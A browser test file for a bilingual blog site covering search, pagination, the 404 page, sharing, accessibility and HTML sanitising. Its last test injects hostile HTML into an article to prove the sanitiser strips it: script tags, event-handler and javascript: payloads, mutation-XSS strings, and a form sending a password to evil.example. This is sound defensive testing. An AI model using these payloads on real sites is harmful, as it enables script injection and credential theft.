import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { openDatabase } from '@site/api/db';
import { axeViolations } from './testing/axe';
import { openPage, waitForSite } from './testing/page';
import { languages } from './testing/shell';
import { useSiteAndBrowser } from './testing/suite';

/**
 * /blog and /blog/{slug} in the browser (docs/pages.md#blog-blog-blogslug): search in both languages, Load more, the
 * not-found state with its status, Share, and hostile HTML in an article reply, which must
 * leave nothing of itself run or in the DOM, in the server's HTML and after hydration.
 */
const env = useSiteAndBrowser();

interface Post {
  id: number;
  slug: string;
  name: string;
  content: string;
}

async function api<T>(path: string): Promise<T> {
  return ((await (await fetch(`${env.site.url}/api${path}`)).json()) as { data: T }).data;
}

const cards = (page: Page) => page.getByTestId('blog-card');

async function noViolations(page: Page, state: string) {
  expect(await axeViolations(page), state).toEqual([]);
}

describe('/blog', () => {
  it('searches once typing pauses, keeps the search in the URL (?q=) and renders it on the server, in both languages', async () => {
    for (const { lang, locale } of languages) {
      const word = lang === 'ar' ? 'المتجر' : 'store';
      const { data: expected, total } = await api<{ data: Post[]; total: number }>(`/v1/blogs?search=${encodeURIComponent(word)}&lang=${lang}`);
      expect(total).toBeGreaterThan(0);
      expect(total).toBeLessThan(12);
      const { context, page, errors } = await openPage(env.browser, { locale });
      await page.goto(`${env.site.url}/blog`);
      await waitForSite(page);
      await noViolations(page, `${lang} list`);
      await page.getByTestId('blog-search-input').pressSequentially(word, { delay: 40 });
      await page.waitForURL((url) => url.searchParams.get('q') === word);
      await expect.poll(() => cards(page).count()).toBe(Math.min(total, 9));
      expect(await cards(page).locator('h2').allTextContents()).toEqual(expected.slice(0, 9).map((post) => post.name));
      expect(await page.getByTestId('blog-results').textContent()).toContain(word);
      await noViolations(page, `${lang} search results`);

      // The same address from the server: the results in its HTML, hydrated without asking again.
      const asked: string[] = [];
      page.on('request', (request) => {
        if (new URL(request.url()).pathname.startsWith('/api/v1/')) asked.push(request.url());
      });
      await page.reload();
      await waitForSite(page);
      await expect.poll(() => page.locator('[data-ssr]').count()).toBe(0);
      expect(await cards(page).count()).toBe(Math.min(total, 9));
      expect(await page.getByTestId('blog-search-input').inputValue()).toBe(word);
      expect(asked).toEqual([]);

      await page.getByTestId('blog-search-input').fill('zzzz-nothing');
      await page.getByTestId('empty-state').waitFor();
      await noViolations(page, `${lang} no results`);
      await page.getByTestId('blog-search-clear').click();
      await expect.poll(() => cards(page).count()).toBe(9);
      expect(errors).toEqual([]);
      await context.close();
    }
  });

  it('loads more articles, filters by category, and shows the recent posts', async () => {
    const { total } = await api<{ total: number }>('/v1/blogs?page=1&per_page=9');
    const { context, page, errors } = await openPage(env.browser, { locale: 'en-US' });
    await page.goto(`${env.site.url}/blog`);
    await waitForSite(page);
    expect(await page.getByTestId('recent-posts').getByRole('link').count()).toBe(3);
    await page.getByTestId('load-more').click();
    await expect.poll(() => cards(page).count()).toBe(total);
    expect(await page.getByTestId('load-more').count()).toBe(0);
    const chip = page.locator('[data-testid="filter-chips"] a[data-slug="cybersecurity"]');
    await chip.click();
    await page.waitForURL(/category=cybersecurity/);
    const { total: inCategory } = await api<{ total: number }>('/v1/blogs?category=cybersecurity');
    await expect.poll(() => cards(page).count()).toBe(inCategory);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('/blog/{slug}', () => {
  it('says Article not found with status 404 from the server, with a link back to /blog, in both languages', async () => {
    for (const { lang, locale } of languages) {
      const { context, page, errors } = await openPage(env.browser, { locale });
      const response = await page.goto(`${env.site.url}/blog/no-such-article`);
      expect(response?.status()).toBe(404);
      await page.getByTestId('article-not-found').waitFor();
      await waitForSite(page);
      expect(await page.locator('main h1').textContent()).toBe(lang === 'ar' ? 'المقال غير موجود' : 'Article not found');
      await noViolations(page, `${lang} not found`);
      await page.getByTestId('article-not-found').getByRole('link').click();
      await page.waitForURL(/\/blog$/);
      await cards(page).first().waitFor();
      expect(errors.filter((text) => !text.includes('404 (Not Found)'))).toEqual([]);
      await context.close();
    }
  });

  it('shows the article with its reading time, and Share copies its link where there is no share sheet', async () => {
    const { data } = await api<{ data: Post[] }>('/v1/blogs?lang=en&per_page=50');
    const post = data[0]!;
    for (const { lang, locale } of languages) {
      const { context, page, errors } = await openPage(env.browser, { locale });
      await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: env.site.url });
      // While the page loads (DOMContentLoaded comes before the load, after which the layout
      // script starts laying parts out), the body's blocks skip their layout under the server's
      // cue (shared/src/state/layout-later.ts).
      await context.addInitScript(() => {
        document.addEventListener('DOMContentLoaded', () => {
          const last = document.querySelector('[data-testid="article-body"] > :last-child');
          (window as unknown as { atParse: unknown }).atParse = [
            document.documentElement.hasAttribute('data-layout-each'),
            last && getComputedStyle(last).contentVisibility,
          ];
        });
      });
      await page.goto(`${env.site.url}/blog/${post.slug}`);
      await waitForSite(page);
      expect(await page.evaluate(() => (window as unknown as { atParse: unknown }).atParse)).toEqual([true, 'auto']);
      // The wait ends on the text itself: <html> keeps its attribute until a navigation (a whole-page restyle).
      await expect.poll(() => page.getByTestId('article-body').evaluate((text) => text.hasAttribute('data-laid-out'))).toBe(true);
      expect(await page.locator('[data-testid="article-body"] > :last-child').evaluate((block) => getComputedStyle(block).contentVisibility)).toBe('visible');
      await expect.poll(() => page.locator('[data-ssr]').count()).toBe(0);
      expect(await page.getByTestId('reading-time').textContent()).toMatch(lang === 'ar' ? /دقيق|دقائق/ : /minutes?$/);
      await noViolations(page, `${lang} article`);
      expect(await page.evaluate(() => typeof navigator.share)).toBe('undefined');
      await page.getByTestId('share-button').click();
      await expect.poll(() => page.getByTestId('share-note').textContent()).toBe(lang === 'ar' ? 'تم نسخ الرابط' : 'Link copied');
      expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(`${env.site.url}/blog/${post.slug}`);
      await noViolations(page, `${lang} link copied`);
      expect(errors).toEqual([]);
      await context.close();
    }
  });

  it('leaves nothing of hostile HTML in an article reply run or in the DOM: in the server HTML, after hydration, and rendered by the browser', async () => {
    const hostile = [
      '<p>Opening paragraph.</p>',
      '<script>window.__pwned = "script"</script>',
      '<img src="/api/placeholder/4/4" onerror="window.__pwned = \'img\'" onload="window.__pwned = \'img-load\'">',
      '<svg onload="window.__pwned = \'svg\'"><circle r="1"></circle></svg>',
      '<a id="bad-link" href="javascript:window.__pwned=\'link\'">click me</a>',
      '<iframe src="javascript:parent.__pwned=\'iframe\'"></iframe><object data="javascript:1"></object><embed src="javascript:1">',
      '<style>main { display: none }</style>',
      '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
      '<p style="position:fixed;inset:0;z-index:99" onmouseover="window.__pwned = \'hover\'">cover</p>',
      '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'mxss\'>"></p></noscript>',
      "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned='math'></style></mglyph></table></mtext></math>",
      '<a href="https://partner.example/" target="_self">partner</a>',
      '<h2>Still a heading</h2>',
    ].join('');
    const forbidden =
      'script, svg, math, iframe, object, embed, style, form, input, button, noscript, [style], [id], [onerror], [onload], [onmouseover], [href^="javascript"], [src^="javascript"]';

    // Another CMS feeding the API: the HTML goes into the database as it is, past the import's own sanitising.
    const { data } = await api<{ data: Post[] }>('/v1/blogs?lang=en&per_page=50');
    const target = data.find((post) => post.slug === 'forms-people-finish') ?? data.at(-1)!;
    const { db, close } = openDatabase({ dataDir: env.site.dataDir, databaseUrl: null });
    try {
      await db.updateTable('blogs').set({ content_ar: hostile, content_en: hostile }).where('id', '=', target.id).execute();
      await db
        .updateTable('meta')
        .set({ value: `hostile-${Date.now()}` })
        .where('key', '=', 'content_version')
        .execute();
    } finally {
      await close();
    }
    await expect.poll(async () => (await api<{ blog: Post }>(`/v1/blogs/slug/${target.slug}?lang=en`)).blog.content).toBe(hostile);

    for (const { lang, locale } of languages) {
      // The server's HTML of the article body.
      const serverHtml = async () => {
        const html = await (await fetch(`${env.site.url}/blog/${target.slug}?lang=${lang}`)).text();
        return /<div class="prose-rich[^"]*" data-testid="article-body"[^>]*>(.*?)<\/div>/s.exec(html)?.[1];
      };
      await expect.poll(serverHtml).toBeDefined();
      const serverBody = (await serverHtml())!;
      expect(serverBody).toContain('<p>Opening paragraph.</p>');
      expect(serverBody).toContain('<h2>Still a heading</h2>');
      expect(serverBody).not.toMatch(
        /<(script|svg|math|iframe|object|embed|style|form|input|noscript)\b|\son\w+=|javascript:|style=|id="bad-link"|evil\.example/i,
      );

      // The site's Content-Security-Policy would block inline handlers and styles that slipped
      // through; it is bypassed here so that anything left in the DOM would run: the test proves
      // the sanitising itself, not the policy behind it.
      const { context, page, errors } = await openPage(env.browser, { locale, bypassCSP: true });
      await page.goto(`${env.site.url}/blog/${target.slug}`);
      await waitForSite(page);
      await expect.poll(() => page.locator('[data-ssr]').count()).toBe(0);
      const body = page.getByTestId('article-body');
      await body.locator('p').first().hover();
      await page.waitForTimeout(300);
      // The page's layout script marks each block it has laid out (shared/src/state/layout-later.ts):
      // its bookkeeping, not the article's HTML.
      const hydrated = (await body.innerHTML()).replaceAll(' data-laid-out=""', '');
      expect(hydrated).toBe(serverBody);
      expect(await body.locator(forbidden).count()).toBe(0);
      expect(await page.locator('main').isVisible()).toBe(true);
      const partner = body.getByRole('link', { name: 'partner' });
      expect([await partner.getAttribute('target'), await partner.getAttribute('rel')]).toEqual(['_blank', 'noopener noreferrer']);
      expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();

      // The browser's own sanitising of the same reply (a client-side render): the same HTML.
      await page.getByTestId('back-to-blog').click();
      await cards(page).first().waitFor();
      await page.getByTestId('load-more').click();
      await page.locator(`[data-testid="read-article"][href="/blog/${target.slug}"]`).click();
      await page.getByTestId('article-page').waitFor();
      expect(await page.getByTestId('article-body').innerHTML()).toBe(hydrated);

      // A reply that reaches the browser alone (an article the page did not bring, read after a
      // client-side navigation from another one) is sanitised there too.
      await page.goto(`${env.site.url}/blog/${data[0]!.slug}`);
      await waitForSite(page);
      await page.route('**/api/v1/blogs/slug/**', async (route) => {
        const reply = (await (await route.fetch()).json()) as { data: { blog: Post } };
        reply.data.blog.content = hostile.replace('Opening paragraph.', 'Intercepted reply.');
        await route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify(reply) });
      });
      await page.getByTestId('related-articles').getByTestId('read-article').first().click();
      await page.getByTestId('article-body').getByText('Intercepted reply.').waitFor();
      const other = page.getByTestId('article-body');
      expect(await other.locator(forbidden).count()).toBe(0);
      await other.locator('p').first().hover();
      await page.waitForTimeout(300);
      expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
      expect(errors, lang).toEqual([]);
      await context.close();
    }
  });
});
